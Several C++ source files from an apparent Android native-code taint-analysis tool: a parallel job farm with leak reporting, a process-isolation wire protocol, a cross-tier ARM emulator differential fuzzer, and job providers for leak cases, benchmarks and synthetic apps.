/// Emits one deterministic position-independent library body into `a`
/// (seeded by `seed`); returns the entry addresses of its exported
/// functions, each an `int f(int)` with AAPCS arguments. Every function
/// terminates (bounded loops only).
std::vector<GuestAddr> emit_pic_library(arm::Assembler& a, u64 seed);

struct MarketApp {
  dvm::ClassObject* cls = nullptr;
  std::vector<dvm::Method*> natives;  // shorty "II", definition order
};

/// Builds the app described by a kMarketApp JobSpec into `device`: loads one
/// generated image per spec.native_libs entry and registers its functions
/// as native methods of L<package>/App;.
MarketApp build_market_app(android::Device& device, const JobSpec& spec);

}  // namespace ndroid::farm
