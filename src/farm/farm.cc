#include "farm/farm.h"

#include <algorithm>
#include <chrono>
#include <deque>
#include <memory>
#include <mutex>
#include <sstream>
#include <thread>

#include "farm/channel.h"
#include "static/summary_store.h"

namespace ndroid::farm {

const char* to_string(JobKind kind) {
  switch (kind) {
    case JobKind::kLeakCase: return "leak_case";
    case JobKind::kCfBench: return "cfbench";
    case JobKind::kMarketApp: return "market_app";
    case JobKind::kRealApp: return "real_app";
    case JobKind::kFuzz: return "fuzz";
  }
  return "?";
}

namespace {

using Clock = std::chrono::steady_clock;

/// One worker's job deque. The owner pops from the front; thieves pop from
/// the back, so an owner burns through its own cache-warm neighbourhood
/// while steals take the work it would reach last.
struct WorkerQueue {
  std::mutex m;
  std::deque<JobSpec> q;

  bool pop_front(JobSpec& out) {
    std::lock_guard lock(m);
    if (q.empty()) return false;
    out = std::move(q.front());
    q.pop_front();
    return true;
  }

  bool steal_back(JobSpec& out) {
    std::lock_guard lock(m);
    if (q.empty()) return false;
    out = std::move(q.back());
    q.pop_back();
    return true;
  }
};

void worker_loop(u32 me, std::vector<WorkerQueue>& queues,
                 Channel<JobResult>& results,
                 static_analysis::SummaryCache* cache,
                 const FarmOptions& options) {
  const u32 n = static_cast<u32>(queues.size());
  for (;;) {
    JobSpec spec;
    bool have = queues[me].pop_front(spec);
    for (u32 k = 1; !have && k < n; ++k) {
      have = queues[(me + k) % n].steal_back(spec);
    }
    if (!have) break;  // every queue empty: queues only shrink, so done
    JobResult r = run_job(spec, cache, options);
    r.worker = me;
    if (!results.push(std::move(r))) break;
  }
}

void append_leak(std::ostringstream& out, const std::string& sink,
                 const std::string& destination, Taint taint,
                 const std::string& data) {
  out << sink << '|' << destination << '|' << taint << '|' << data << ';';
}

std::string json_escape(const std::string& s) {
  std::string out;
  out.reserve(s.size());
  for (const char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof buf, "\\u%04x", c);
          out += buf;
        } else {
          out += c;
        }
    }
  }
  return out;
}

}  // namespace

void aggregate_result(FarmReport& report, JobResult r) {
  ++report.jobs;
  if (!r.ok) ++report.failures;
  report.retries += r.retries;
  report.native_leaks += static_cast<u32>(r.native_leaks.size());
  report.framework_leaks += static_cast<u32>(r.framework_leaks.size());
  report.tamper_alerts += r.tamper_alerts;
  report.summary_gate_skips += r.summary_gate_skips;
  // Process-mode jobs ship their in-process cache activity back in the
  // result (always zero in serial/thread modes, where run_farm reads the
  // shared cache's counters directly).
  report.cache.hits += r.cache_delta.hits;
  report.cache.misses += r.cache_delta.misses;
  report.cache.rebinds += r.cache_delta.rebinds;
  report.cache.store_hits += r.cache_delta.store_hits;
  report.cache.store_writes += r.cache_delta.store_writes;
  report.results.push_back(std::move(r));
}

std::string FarmReport::leak_digest() const {
  std::ostringstream out;
  for (const JobResult& r : results) {
    out << '#' << r.spec.id << ' ' << to_string(r.spec.kind) << ' '
        << r.spec.name << " rep" << r.spec.rep << ':';
    out << (r.ok ? "ok" : ("err=" + r.error)) << ':';
    for (const auto& leak : r.framework_leaks) {
      out << 'F';
      append_leak(out, leak.sink, leak.destination, leak.taint, leak.data);
    }
    for (const auto& leak : r.native_leaks) {
      out << 'N';
      append_leak(out, leak.sink, leak.destination, leak.taint, leak.data);
    }
    out << "alerts=" << r.tamper_alerts << ";csum=" << r.checksum;
    if (!r.market_type.empty()) out << ";market=" << r.market_type;
    if (!r.first_leaking_method.empty()) {
      out << ";first_leak=" << r.first_leaking_method;
    }
    out << '\n';
  }
  return out.str();
}

std::string FarmReport::to_json() const {
  std::ostringstream out;
  out << "{\n";
  out << "  \"workers\": " << workers << ",\n";
  out << "  \"processes\": " << processes << ",\n";
  out << "  \"jobs\": " << jobs << ",\n";
  out << "  \"failures\": " << failures << ",\n";
  out << "  \"retries\": " << retries << ",\n";
  out << "  \"worker_deaths\": " << worker_deaths << ",\n";
  out << "  \"warm_entries\": " << warm_entries << ",\n";
  out << "  \"native_leaks\": " << native_leaks << ",\n";
  out << "  \"framework_leaks\": " << framework_leaks << ",\n";
  out << "  \"tamper_alerts\": " << tamper_alerts << ",\n";
  out << "  \"summary_gate_skips\": " << summary_gate_skips << ",\n";
  out << "  \"wall_ms\": " << wall_ms << ",\n";
  out << "  \"apps_per_sec\": " << apps_per_sec << ",\n";
  out << "  \"cache\": {\"hits\": " << cache.hits
      << ", \"misses\": " << cache.misses << ", \"rebinds\": " << cache.rebinds
      << ", \"store_hits\": " << cache.store_hits
      << ", \"store_writes\": " << cache.store_writes
      << ", \"hit_rate\": " << cache.hit_rate() << "},\n";
  out << "  \"results\": [\n";
  for (std::size_t i = 0; i < results.size(); ++i) {
    const JobResult& r = results[i];
    out << "    {\"id\": " << r.spec.id << ", \"kind\": \""
        << to_string(r.spec.kind) << "\", \"name\": \""
        << json_escape(r.spec.name) << "\", \"rep\": " << r.spec.rep
        << ", \"worker\": " << r.worker << ", \"ok\": "
        << (r.ok ? "true" : "false") << ", \"native_leaks\": "
        << r.native_leaks.size() << ", \"framework_leaks\": "
        << r.framework_leaks.size() << ", \"tamper_alerts\": "
        << r.tamper_alerts << ", \"gate_skips\": " << r.summary_gate_skips
        << ", \"setup_ms\": " << r.timing.setup_ms << ", \"static_ms\": "
        << r.timing.static_ms << ", \"run_ms\": " << r.timing.run_ms << "}"
        << (i + 1 < results.size() ? "," : "") << "\n";
  }
  out << "  ]\n}\n";
  return out.str();
}

FarmReport run_farm(const std::vector<JobSpec>& jobs,
                    const FarmOptions& options) {
  // Resolved copy: the store pointer (opened from store_dir if needed) rides
  // inside so run_job / the process pool see one authoritative FarmOptions.
  FarmOptions opts = options;
  FarmReport report;
  report.workers = opts.processes > 0 ? 0 : opts.workers;
  report.processes = opts.processes;

  std::unique_ptr<static_analysis::SummaryStore> local_store;
  if (opts.store == nullptr && !opts.store_dir.empty()) {
    local_store = std::make_unique<static_analysis::SummaryStore>(opts.store_dir);
    opts.store = local_store.get();
  }

  // Batch-local cache unless the caller shares one across batches.
  static_analysis::SummaryCache local_cache;
  static_analysis::SummaryCache* cache = nullptr;
  if (opts.share_summaries) {
    cache = opts.cache != nullptr ? opts.cache : &local_cache;
  }
  if (cache != nullptr && opts.store != nullptr) {
    cache->set_store(opts.store);
    // Pre-publish everything on disk now, before any worker exists: thread
    // workers share the warmed slots directly, process workers inherit them
    // through copy-on-write fork memory.
    report.warm_entries = static_cast<u32>(cache->warm_from_store());
  }
  const auto stats_before =
      cache != nullptr ? cache->stats() : static_analysis::SummaryCache::Stats{};

  const auto t0 = Clock::now();
  if (opts.processes > 0) {
    const u32 warm = report.warm_entries;
    report = run_farm_processes(jobs, opts, cache);
    report.warm_entries = warm;
  } else if (opts.workers == 0) {
    // Serial reference path: no threads, no channel.
    for (const JobSpec& spec : jobs) {
      aggregate_result(report, run_job(spec, cache, opts));
    }
  } else {
    std::vector<WorkerQueue> queues(opts.workers);
    for (std::size_t i = 0; i < jobs.size(); ++i) {
      queues[i % opts.workers].q.push_back(jobs[i]);
    }
    Channel<JobResult> results(opts.channel_capacity);
    std::vector<std::thread> threads;
    threads.reserve(opts.workers);
    for (u32 w = 0; w < opts.workers; ++w) {
      threads.emplace_back(worker_loop, w, std::ref(queues), std::ref(results),
                           cache, std::cref(opts));
    }
    // Streaming aggregation on the calling thread.
    for (std::size_t received = 0; received < jobs.size(); ++received) {
      std::optional<JobResult> r = results.pop();
      if (!r.has_value()) break;  // cannot happen before close(); safety
      aggregate_result(report, std::move(*r));
    }
    for (std::thread& t : threads) t.join();
    results.close();
  }
  report.wall_ms =
      std::chrono::duration<double, std::milli>(Clock::now() - t0).count();
  report.apps_per_sec =
      report.wall_ms > 0 ? 1000.0 * report.jobs / report.wall_ms : 0.0;

  if (cache != nullptr) {
    const auto after = cache->stats();
    report.cache.hits += after.hits - stats_before.hits;
    report.cache.misses += after.misses - stats_before.misses;
    report.cache.rebinds += after.rebinds - stats_before.rebinds;
    report.cache.store_hits += after.store_hits - stats_before.store_hits;
    report.cache.store_writes += after.store_writes - stats_before.store_writes;
    // Don't leave an external cache pointing at a store we own.
    if (local_store != nullptr) cache->set_store(nullptr);
  }

  std::sort(report.results.begin(), report.results.end(),
            [](const JobResult& a, const JobResult& b) {
              return a.spec.id < b.spec.id;
            });
  return report;
}

}  // namespace ndroid::farm
