// Crash-isolated process scheduler internals: the wire protocol between a
// job process and the supervisor, exposed so the fault-injection tests can
// assert on frames directly.
//
// Topology (run_farm_processes): the supervisor stays single-threaded on
// the calling thread and pre-forks one *zygote* per worker slot. A zygote
// builds the expensive analysis substrate once (a pristine template
// android::Device) and then forks one short-lived *job process* per
// dispatched job; the job inherits the template through copy-on-write
// memory, so per-job setup_ms collapses to the fork. The job writes exactly
// one frame — its serialized JobResult — to a private pipe; the zygote
// validates the frame and forwards it verbatim to the supervisor, or, when
// the job died (signal, deadline SIGALRM, torn frame), synthesizes a death
// frame in its place. A zygote that dies itself is seen by the supervisor
// as EOF on that slot's result pipe and is respawned. Either way a lost
// process costs at most its own job: the supervisor re-queues the job once
// and marks it failed (deterministically) on the second loss.
#pragma once

#include <optional>
#include <span>
#include <vector>

#include "farm/farm.h"

namespace ndroid::farm::wire {

/// Frame header magic, "NFR1" little-endian.
inline constexpr u32 kFrameMagic = 0x3152464Eu;
/// Frame types.
inline constexpr u8 kFrameResult = 1;  // payload = serialized JobResult
inline constexpr u8 kFrameDeath = 2;   // payload = DeathInfo
/// Exit code a job process's SIGALRM handler uses to report a blown
/// deadline (distinguishable from crashes and from clean exits).
inline constexpr int kTimeoutExit = 117;
/// Upper bound on a frame payload (a JobResult is a few KB; anything near
/// this is a corrupt length field).
inline constexpr u64 kMaxPayload = 64u << 20;

/// Why a job process died without producing a result.
struct DeathInfo {
  enum class Cause : u8 { kSignal = 0, kTimeout = 1, kProtocol = 2 };
  Cause cause = Cause::kSignal;
  i32 value = 0;  // signal number / timeout ms / exit status
};

/// One parsed frame off a result pipe.
struct Frame {
  u8 type = kFrameResult;
  u32 job_index = 0;
  std::vector<u8> payload;
};

/// Serialized JobResult payload codec. Deterministic: equal results encode
/// to equal bytes. decode throws serde::DecodeError on malformed input.
[[nodiscard]] std::vector<u8> encode_result(const JobResult& r);
[[nodiscard]] JobResult decode_result(std::span<const u8> payload);

[[nodiscard]] std::vector<u8> encode_death(const DeathInfo& d);
[[nodiscard]] DeathInfo decode_death(std::span<const u8> payload);

/// Wraps a payload in a framed envelope: magic, type, job index, length,
/// payload bytes, FNV-1a hash of the payload.
[[nodiscard]] std::vector<u8> encode_frame(u8 type, u32 job_index,
                                           std::span<const u8> payload);

/// Consumes one complete, hash-verified frame from the front of `buf`
/// (erasing it), or nullopt when `buf` does not yet hold a full frame.
/// Throws serde::DecodeError on a corrupt header or hash mismatch — the
/// caller treats the whole stream (and its sender) as dead.
std::optional<Frame> take_frame(std::vector<u8>& buf);

}  // namespace ndroid::farm::wire
