#include "farm/fuzz.h"

#include <array>
#include <deque>
#include <memory>
#include <optional>
#include <random>
#include <vector>

#include "arm/assembler.h"
#include "arm/cpu.h"
#include "arm/thumb_assembler.h"
#include "core/instruction_tracer.h"

namespace ndroid::farm::fuzz {
namespace {

using arm::Assembler;
using arm::Cond;
using arm::Label;
using arm::R;
using arm::ThumbAssembler;

constexpr GuestAddr kCode = 0x10000;
constexpr GuestAddr kThumb = 0x14000;
constexpr GuestAddr kData = 0x20000;

struct Program {
  std::vector<u8> arm_code;    // entry at kCode
  std::vector<u8> thumb_code;  // Thumb leaf at kThumb
};

/// Registers the random body may use freely. r4 (data base) and r5 (loop
/// counter) stay off-limits so the loop always terminates; r6 is only ever
/// a freshly re-derived scratch pointer.
constexpr u8 kBodyRegs[] = {0, 1, 2, 3, 7};

Program generate(u64 seed) {
  std::mt19937 rng(static_cast<u32>(seed * 2654435761u + 0x9E3779B9u));
  const auto reg = [&] { return R(kBodyRegs[rng() % std::size(kBodyRegs)]); };

  ThumbAssembler t(kThumb);
  // Half the leaves open with a Thumb-2 table dispatch (TBB or TBH) on the
  // caller's r0 — the jump-table evasion shape, diffed across every tier.
  if (rng() % 2 != 0) {
    const bool half = rng() % 2 != 0;
    arm::ThumbLabel join;
    t.lsls(R(3), R(0), 30);
    t.lsrs(R(3), R(3), 30);  // r3 = r0 & 3
    const GuestAddr tb_pc = t.here();
    if (half) {
      t.tbh(arm::PC, R(3));
    } else {
      t.tbb(arm::PC, R(3));
    }
    const GuestAddr base = tb_pc + 4;
    const GuestAddr case0 = base + (half ? 8 : 4);
    for (u32 c = 0; c < 4; ++c) {
      // Each case is movs (2 bytes) + narrow b (2 bytes).
      const u16 entry = static_cast<u16>((case0 + 4 * c - base) / 2);
      if (half) {
        t.hword(entry);
      } else {
        t.byte(static_cast<u8>(entry));
      }
    }
    for (u32 c = 0; c < 4; ++c) {
      t.movs_imm(R(2), static_cast<u8>(rng() % 256));
      t.b(join);
    }
    t.bind(join);
  }
  const u32 thumb_steps = 4 + rng() % 10;
  for (u32 i = 0; i < thumb_steps; ++i) {
    const arm::Reg rd = R(static_cast<u8>(rng() % 4));
    const arm::Reg rm = R(static_cast<u8>(rng() % 4));
    switch (rng() % 9) {
      case 0: t.adds(rd, rd, rm); break;
      case 1: t.subs(rd, rd, rm); break;
      case 2: t.eors(rd, rm); break;
      case 3: t.ands(rd, rm); break;
      case 4: t.muls(rd, rm); break;
      case 5: t.lsls(rd, rm, static_cast<u8>(1 + rng() % 7)); break;
      case 6: t.uxth(rd, rm); break;
      case 7: t.str(rd, R(4), static_cast<u8>(4 * (rng() % 16))); break;
      case 8: t.ldr(rd, R(4), static_cast<u8>(4 * (rng() % 16))); break;
    }
  }
  t.bx(arm::LR);

  Assembler a(kCode);
  std::deque<Label> labels;  // deque: binding must not move pending labels
  a.push({R(4), R(5), R(6), R(7), arm::LR});
  a.mov_imm32(R(4), kData);
  a.mov_imm(R(5), 2 + rng() % 4);
  a.mov_imm(R(7), rng() % 256);
  Label loop;
  a.bind(loop);
  const u32 steps = 8 + rng() % 16;
  for (u32 i = 0; i < steps; ++i) {
    const arm::Reg rd = reg(), rn = reg(), rm = reg();
    switch (rng() % 20) {
      case 0: a.add(rd, rn, rm); break;
      case 1: a.sub(rd, rn, rm); break;
      case 2: a.eor(rd, rn, rm); break;
      case 3: a.orr(rd, rn, rm); break;
      case 4: a.mul(rd, rn, rm); break;
      case 5: a.add_imm(rd, rn, rng() % 256); break;
      case 6: a.sub_imm(rd, rn, rng() % 256); break;
      case 7: a.eor_imm(rd, rn, rng() % 256); break;
      case 8: a.mov_imm(rd, rng() % 256); break;
      case 9: a.sxtb(rd, rm); break;
      case 10: a.uxth(rd, rm); break;
      case 11: a.str(rd, R(4), static_cast<i32>(4 * (rng() % 32))); break;
      case 12: a.ldr(rd, R(4), static_cast<i32>(4 * (rng() % 32))); break;
      case 13: a.strb(rd, R(4), static_cast<i32>(rng() % 128)); break;
      case 14: a.ldrsh(rd, R(4), static_cast<i32>(2 * (rng() % 32))); break;
      case 15:  // post-indexed store through a scratch pointer
        a.mov(R(6), R(4));
        a.str_post(rd, R(6), 4);
        break;
      case 16: {  // conditional forward skip over a short run
        Label& skip = labels.emplace_back();
        a.cmp(rn, rm);
        a.b(skip, static_cast<Cond>(rng() % 14));
        const u32 inner = 1 + rng() % 3;
        for (u32 j = 0; j < inner; ++j) a.add_imm(reg(), reg(), rng() % 256);
        a.bind(skip);
        break;
      }
      case 17: a.call(kThumb | 1); break;  // interwork into the leaf
      case 18: {  // ARM word jump table: ldr pc, [pc, idx*4]
        a.and_imm(R(6), rn, 3);
        a.lsl(R(6), R(6), 2);
        const GuestAddr ldr_pc = a.here();
        a.ldr_reg(arm::PC, arm::PC, R(6));
        a.word(0);  // pad: the table must sit at ldr_pc + 8 (PC-read base)
        const GuestAddr case0 = ldr_pc + 8 + 16;
        // Each case is add_imm (4 bytes) + b join (4 bytes).
        for (u32 c = 0; c < 4; ++c) a.word(case0 + 8 * c);
        Label& join = labels.emplace_back();
        for (u32 c = 0; c < 4; ++c) {
          a.add_imm(reg(), reg(), rng() % 256);
          a.b(join);
        }
        a.bind(join);
        break;
      }
      case 19:  // the leaf call again, but through a register (BLX rm)
        a.mov_imm32(R(6), kThumb | 1);
        a.blx(R(6));
        break;
    }
  }
  a.sub_imm(R(5), R(5), 1, /*s=*/true);
  a.b(loop, Cond::kNE);
  // Spill every observable register so the memory digest captures them.
  const u8 spill[] = {0, 1, 2, 3, 6, 7};
  for (u32 i = 0; i < std::size(spill); ++i) {
    a.str(R(spill[i]), R(4), static_cast<i32>(0x400 + 4 * i));
  }
  for (u8 r : {1, 2, 3, 7}) a.eor(R(0), R(0), R(r));
  a.pop({R(4), R(5), R(6), R(7), arm::LR});
  a.ret();

  Program prog;
  prog.arm_code = a.finish();
  prog.thumb_code = t.finish();
  return prog;
}

enum class Tier {
  kInterp,
  kTb,
  kTbTlb,
  kThreaded,
  kThreadedFused,
  kJit,
  /// Host emission with the taint-fused traced stream: gated hook, an
  /// always-firing block gate, and a full TaintJitView, so every block runs
  /// inlined Table V transfers over the raw label file. Degrades to the
  /// threaded fused tier without host emission.
  kJitTraced,
};

const char* tier_name(Tier t) {
  switch (t) {
    case Tier::kInterp: return "interp";
    case Tier::kTb: return "tb";
    case Tier::kTbTlb: return "tb+tlb";
    case Tier::kThreaded: return "threaded";
    case Tier::kThreadedFused: return "threaded+fused";
    case Tier::kJit: return "jit";
    case Tier::kJitTraced: return "jit+traced";
  }
  return "?";
}

struct TierResult {
  u32 r0 = 0;
  u64 mem_digest = 0;
  u64 traced = 0;
  u64 shadow_digest = 0;
};

u64 fold(u64 h, u64 v) {
  for (int i = 0; i < 8; ++i) {
    h = (h ^ ((v >> (8 * i)) & 0xFF)) * 0x100000001B3ull;
  }
  return h;
}

TierResult run_tier(const Program& prog, Tier tier, bool taint, u64 seed) {
  mem::AddressSpace mem;
  mem::MemoryMap map;
  map.add("code", kCode, 0x8000, mem::kRX);
  map.add("data", kData, 0x8000, mem::kRW);
  map.add("[stack]", 0x70000, 0x10000, mem::kRW);
  arm::Cpu cpu(mem, map);
  cpu.set_initial_sp(0x80000);
  cpu.set_use_tb_cache(tier != Tier::kInterp);
  cpu.set_threaded_enabled(tier == Tier::kThreaded ||
                           tier == Tier::kThreadedFused ||
                           tier == Tier::kJit || tier == Tier::kJitTraced);
  mem.set_tlb_enabled(tier == Tier::kTbTlb || tier == Tier::kThreaded ||
                      tier == Tier::kThreadedFused || tier == Tier::kJit ||
                      tier == Tier::kJitTraced);
  // No-op without host emission.
  cpu.set_jit_enabled(tier == Tier::kJit || tier == Tier::kJitTraced);
  mem.write_bytes(kCode, prog.arm_code);
  mem.write_bytes(kThumb, prog.thumb_code);

  core::TaintEngine taint_engine;
  std::unique_ptr<core::InstructionTracer> tracer;
  if (taint) {
    tracer = std::make_unique<core::InstructionTracer>(
        taint_engine, [](GuestAddr) { return true; });
    for (u8 r = 0; r < 4; ++r) {
      taint_engine.set_reg(r, 1u << ((seed + r) % 8));
    }
    for (u32 k = 0; k < 8; ++k) {
      taint_engine.map().set_range(kData + 8 * k, 4, 1u << ((seed + k) % 8));
    }
    const bool traced_jit = tier == Tier::kJitTraced;
    cpu.add_insn_hook(
        [&tracer](arm::Cpu& c, const arm::Insn& insn, GuestAddr pc) {
          tracer->on_insn(c, insn, pc);
        },
        /*gated=*/traced_jit);
    if (tier == Tier::kThreadedFused || traced_jit) {
      cpu.set_trace_emitter(
          [&tracer](const arm::TranslationBlock&, const arm::TbInsn& ti) {
            return std::optional<arm::TraceOp>(tracer->prepare(ti));
          });
    }
    if (traced_jit) {
      cpu.set_block_gate([](arm::Cpu&, arm::TranslationBlock&) {
        return true;
      });
      arm::TaintJitView view;
      view.reg_labels = taint_engine.jit_reg_labels();
      view.sync = [](void* ctx, u32 written) {
        static_cast<core::TaintEngine*>(ctx)->jit_resync(
            static_cast<u16>(written));
      };
      view.sync_ctx = &taint_engine;
      view.shadow_tlb = taint_engine.map().jit_tlb_base();
      view.shadow_tlb_slots = mem::ShadowMemory::kJitTlbSlots;
      view.shadow_read = [](void* ctx, u32 addr, u32 len) -> u32 {
        auto* m = static_cast<mem::ShadowMemory*>(ctx);
        m->jit_fill(addr);
        return m->get_range(addr, len);
      };
      view.shadow_write = [](void* ctx, u32 addr, u32 len, u32 t) {
        static_cast<mem::ShadowMemory*>(ctx)->set_range(addr, len, t);
      };
      view.mem_ctx = &taint_engine.map();
      view.traced_ctr = tracer->traced_slot();
      view.cache_ctr =
          tracer->cache_enabled() ? tracer->cache_hits_slot() : nullptr;
      view.prop_ctr = &taint_engine.propagations;
      cpu.set_taint_jit_view(&view);
    }
  }

  TierResult res;
  const u32 s = static_cast<u32>(seed);
  res.r0 = cpu.call_function(kCode, {s, s * 2654435761u, s ^ 0xDEADBEEFu, ~s});
  u64 h = 0xCBF29CE484222325ull;
  for (GuestAddr addr = kData; addr < kData + 0x440; addr += 4) {
    h = fold(h, mem.read32(addr));
  }
  res.mem_digest = h;
  if (taint) {
    res.traced = tracer->instructions_traced();
    u64 sh = 0xCBF29CE484222325ull;
    for (u8 r = 0; r < 16; ++r) sh = fold(sh, taint_engine.reg(r));
    for (GuestAddr addr = kData; addr < kData + 0x440; addr += 4) {
      sh = fold(sh, taint_engine.map().get_range(addr, 4));
    }
    res.shadow_digest = sh;
    cpu.set_taint_jit_view(nullptr);  // view points into tracer/engine state
    cpu.set_trace_emitter(nullptr);   // tracer dies before the cpu
  }
  return res;
}

}  // namespace

Outcome run_differential(u64 seed) {
  const Program prog = generate(seed);
  Outcome out;

  const TierResult base = run_tier(prog, Tier::kInterp, true, seed);
  out.instructions_traced = base.traced;
  u64 h = 0xCBF29CE484222325ull;
  h = fold(h, base.r0);
  h = fold(h, base.mem_digest);
  h = fold(h, base.traced);
  h = fold(h, base.shadow_digest);
  out.checksum = static_cast<u32>(h ^ (h >> 32));

  for (const Tier tier : {Tier::kTb, Tier::kTbTlb, Tier::kThreaded,
                          Tier::kThreadedFused, Tier::kJit,
                          Tier::kJitTraced}) {
    const TierResult got = run_tier(prog, tier, true, seed);
    if (got.r0 != base.r0) {
      out.error = std::string(tier_name(tier)) + " diverged on r0";
      return out;
    }
    if (got.mem_digest != base.mem_digest) {
      out.error = std::string(tier_name(tier)) + " diverged on memory digest";
      return out;
    }
    if (got.traced != base.traced) {
      out.error = std::string(tier_name(tier)) + " diverged on traced count";
      return out;
    }
    if (got.shadow_digest != base.shadow_digest) {
      out.error = std::string(tier_name(tier)) + " diverged on shadow digest";
      return out;
    }
  }

  // Taint tracking must be a pure observer of architectural state.
  for (const Tier tier : {Tier::kInterp, Tier::kTb, Tier::kTbTlb,
                          Tier::kThreaded, Tier::kJit}) {
    const TierResult got = run_tier(prog, tier, false, seed);
    if (got.r0 != base.r0 || got.mem_digest != base.mem_digest) {
      out.error =
          std::string(tier_name(tier)) + " diverged with taint tracking off";
      return out;
    }
  }

  out.ok = true;
  return out;
}

}  // namespace ndroid::farm::fuzz
