// Job providers: turn the repo's app sources into farm job queues.
//
//   table1_jobs    — the five Table I / Fig. 3 leak scenarios;
//   cfbench_jobs   — one job per CF-Bench workload (§VI-E);
//   market_jobs    — synthetic market apps bundling popular libraries drawn
//                    from the §III popularity weights (deterministic);
//   real_app_jobs  — QQPhoneBook + ePhone (§VI), monkey-driven with
//                    explicit per-job seeds;
//   default_mix    — the standard corpus the CLI and benches run;
//   repeat_jobs    — K repetitions of a base batch, re-numbered, with
//                    per-repetition monkey seeds derived deterministically
//                    (rep k of a job is reproducible in isolation).
#pragma once

#include <vector>

#include "farm/job.h"

namespace ndroid::farm {

std::vector<JobSpec> table1_jobs();
std::vector<JobSpec> cfbench_jobs(u32 iterations);
std::vector<JobSpec> market_jobs(u32 count, u64 seed);
std::vector<JobSpec> real_app_jobs(u32 monkey_events, u64 seed);
/// `count` cross-engine differential fuzz programs (src/farm/fuzz), each a
/// hermetic job whose program seed derives deterministically from (seed, i).
std::vector<JobSpec> fuzz_jobs(u32 count, u64 seed);

std::vector<JobSpec> default_mix(u32 cfbench_iterations, u32 market_apps,
                                 u32 monkey_events, u64 seed);

std::vector<JobSpec> repeat_jobs(const std::vector<JobSpec>& base, u32 reps);

/// Deterministic per-(seed, id, rep) monkey seed (splitmix-style mix), so a
/// repeated batch drives each app with fresh but reproducible inputs.
[[nodiscard]] u64 derive_seed(u64 seed, u32 id, u32 rep);

}  // namespace ndroid::farm
