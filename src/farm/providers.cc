#include "farm/providers.h"

#include <algorithm>

#include "apps/cfbench.h"
#include "apps/leak_cases.h"
#include "market/corpus.h"

namespace ndroid::farm {

u64 derive_seed(u64 seed, u32 id, u32 rep) {
  u64 z = seed + 0x9E3779B97F4A7C15ull * (1ull + id) +
          0xBF58476D1CE4E5B9ull * (1ull + rep);
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
  return z ^ (z >> 31);
}

std::vector<JobSpec> table1_jobs() {
  std::vector<JobSpec> jobs;
  for (const auto& [name, builder] : apps::all_cases()) {
    (void)builder;
    JobSpec j;
    j.kind = JobKind::kLeakCase;
    j.name = name;
    jobs.push_back(std::move(j));
  }
  return jobs;
}

std::vector<JobSpec> cfbench_jobs(u32 iterations) {
  // Workload names mirror apps::CfBenchApp; listed here so providers don't
  // need a Device to enumerate them. run_job resolves them via find().
  static const char* kWorkloads[] = {
      "Native MIPS",       "Java MIPS",         "Native MSFLOPS",
      "Java MSFLOPS",      "Native MDFLOPS",    "Java MDFLOPS",
      "Native MALLOCS",    "Native Memory Read", "Native Memory Write",
      "Java Memory Read",  "Java Memory Write",  "Native Disk Read",
      "Native Disk Write",
  };
  std::vector<JobSpec> jobs;
  for (const char* name : kWorkloads) {
    JobSpec j;
    j.kind = JobKind::kCfBench;
    j.name = name;
    j.iterations = iterations;
    jobs.push_back(std::move(j));
  }
  return jobs;
}

std::vector<JobSpec> market_jobs(u32 count, u64 seed) {
  const auto& weights = market::library_popularity_weights();
  u32 total_weight = 0;
  for (const auto& [name, w] : weights) total_weight += w;

  std::vector<JobSpec> jobs;
  for (u32 i = 0; i < count; ++i) {
    JobSpec j;
    j.kind = JobKind::kMarketApp;
    j.name = "com.market.app" + std::to_string(i);
    // 1–3 libraries per app, weighted by §III popularity. Deterministic in
    // (seed, i): the same corpus regenerates identically on every run.
    const u32 libs = 1 + static_cast<u32>(derive_seed(seed, i, 0) % 3);
    for (u32 k = 0; k < libs; ++k) {
      u64 pick = derive_seed(seed, i, k + 1) % total_weight;
      for (const auto& [name, w] : weights) {
        if (pick < w) {
          if (std::find(j.native_libs.begin(), j.native_libs.end(), name) ==
              j.native_libs.end()) {
            j.native_libs.push_back(name);
          }
          break;
        }
        pick -= w;
      }
    }
    jobs.push_back(std::move(j));
  }
  return jobs;
}

std::vector<JobSpec> real_app_jobs(u32 monkey_events, u64 seed) {
  std::vector<JobSpec> jobs;
  for (const char* name : {"qqphonebook", "ephone"}) {
    JobSpec j;
    j.kind = JobKind::kRealApp;
    j.name = name;
    j.monkey_events = monkey_events;
    j.monkey_seed = seed;  // re-derived per (id, rep) by repeat_jobs
    jobs.push_back(std::move(j));
  }
  return jobs;
}

std::vector<JobSpec> fuzz_jobs(u32 count, u64 seed) {
  std::vector<JobSpec> jobs;
  jobs.reserve(count);
  for (u32 i = 0; i < count; ++i) {
    JobSpec j;
    j.id = i;
    j.kind = JobKind::kFuzz;
    // The program seed rides in monkey_seed (the spec's generic RNG-seed
    // field); the name makes digests and logs self-describing.
    j.monkey_seed = derive_seed(seed, i, 0);
    j.name = "fuzz-" + std::to_string(j.monkey_seed);
    jobs.push_back(std::move(j));
  }
  return jobs;
}

std::vector<JobSpec> default_mix(u32 cfbench_iterations, u32 market_apps,
                                 u32 monkey_events, u64 seed) {
  std::vector<JobSpec> jobs = table1_jobs();
  for (JobSpec& j : cfbench_jobs(cfbench_iterations)) {
    jobs.push_back(std::move(j));
  }
  for (JobSpec& j : market_jobs(market_apps, seed)) {
    jobs.push_back(std::move(j));
  }
  for (JobSpec& j : real_app_jobs(monkey_events, seed)) {
    jobs.push_back(std::move(j));
  }
  for (u32 i = 0; i < static_cast<u32>(jobs.size()); ++i) {
    jobs[i].id = i;
    if (jobs[i].kind == JobKind::kRealApp) {
      jobs[i].monkey_seed = derive_seed(seed, i, 0);
    }
  }
  return jobs;
}

std::vector<JobSpec> repeat_jobs(const std::vector<JobSpec>& base, u32 reps) {
  std::vector<JobSpec> jobs;
  jobs.reserve(static_cast<std::size_t>(base.size()) * reps);
  u32 id = 0;
  for (u32 rep = 0; rep < reps; ++rep) {
    for (const JobSpec& b : base) {
      JobSpec j = b;
      j.id = id++;
      j.rep = rep;
      if (j.kind == JobKind::kRealApp) {
        j.monkey_seed = derive_seed(b.monkey_seed, b.id, rep);
      }
      jobs.push_back(std::move(j));
    }
  }
  return jobs;
}

}  // namespace ndroid::farm
