// The JNIEnv function table, materialised in guest memory.
//
